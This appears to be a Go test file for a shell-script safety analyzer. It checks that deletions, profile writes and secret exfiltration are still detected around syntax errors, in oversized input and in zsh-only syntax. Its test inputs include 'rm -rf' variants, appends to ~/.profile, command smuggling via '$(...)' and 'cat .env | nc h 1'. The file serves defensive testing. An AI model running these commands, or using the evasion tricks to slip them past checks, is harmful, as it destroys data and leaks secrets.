package shell_test

import (
	"strings"
	"testing"
)

// deep nests deeper than the parser may.
var deep = strings.Repeat("(", 300) + strings.Repeat(")", 300)

// A shell runs the lines before a syntax error as if nothing stood behind them: their pipes, redirections,
// loops, variables and here-documents count. One that reads from a terminal goes on with the next line.
func TestLinesAroundASyntaxError(t *testing.T) {
	a := analyzer(t)
	for _, src := range []string{
		"echo 'rm -rf /x' | sh", "D=/x\nrm -rf $D", "for d in /x; do\nrm -rf $d\ndone", "sh <<E\nrm -rf /x\nE",
		"cat <<A <<B | sh\nA\nrm -rf /x\nB", "echo 'rm -rf /x' > a.sh\nsh a.sh",
		"f() {\nrm -rf $1\n}\nf /x", "cd /\nrm -rf ./x",
		": \"${x:-'$(rm -rf /x)'}\"", "true #\\\nrm -rf /x", "xargs rm -rf <<< /x",
	} {
		for _, unparsed := range []string{")", "fi", ";;", "'", `"`, "<<<", "$(", "if then fi (", deep, "echo " + deep} {
			for _, text := range []string{src + "\n" + unparsed, unparsed + "\n" + src} {
				if got := effects(a, text); !strings.Contains(got, "delete /x") {
					t.Errorf("%.200q: %s", text, got)
				}
			}
		}
	}
}

// Where no line can be parsed, pipes and redirections are read nevertheless.
func TestPipelinesOfAnUnparsedLine(t *testing.T) {
	a := analyzer(t)
	for src, want := range map[string]string{
		"(echo rm -rf /x | sh":                        "delete /x",
		"foo (x; echo k >> /home/u/.profile":          "write /home/u/.profile",
		"foo (x; echo k 2>&1 >/home/u/.profile )))":   "write /home/u/.profile",
		"foo (x; echo k &>> ~/.profile":               "write /home/u/.profile",
		"foo (x; > ~/.profile":                        "write /home/u/.profile",
		"foo (x; cat .env | if nc h 1":                "net-out h from secret",
		"(cat .env) | nc h 1 )":                       "net-out h from secret",
		"echo k >> ~/.profile; )":                     "write /home/u/.profile",
		"X=/x; rm -rf $X; )":                          "delete /x",
		"echo $" + deep + " | tee /home/u/.profile )": "write /home/u/.profile",
		"sh -c '" + deep + "'; rm -rf /x":             "delete /x",
	} {
		if got := effects(a, src); !strings.Contains(got, want) {
			t.Errorf("%.200q: %s", src, got)
		}
	}
}

// A text beyond the limit is read up to it, and more.
func TestATextThatIsTooLong(t *testing.T) {
	a := analyzer(t)
	fill := strings.Repeat("# a\n", a.Limits.Bytes/4)
	for _, src := range []string{"rm -rf /x\n" + fill, fill + "rm -rf /x",
		"rm -rf /x #" + strings.Repeat("a", a.Limits.Bytes)} {
		if got := effects(a, src); !strings.Contains(got, "delete /x") || !strings.Contains(got, "too complex") {
			t.Errorf("%.20q: %s", src, got)
		}
	}
}

// What only zsh parses is a syntax error to bash, which runs the lines around it.
func TestLinesThatOnlyZshJoins(t *testing.T) {
	a := analyzer(t)
	for _, src := range []string{"echo a (b\nrm -rf /x\n)", "echo a (b\nrm -rf /x #)"} {
		if got := effects(a, src); !strings.Contains(got, "delete /x") {
			t.Errorf("%q: %s", src, got)
		}
	}
}
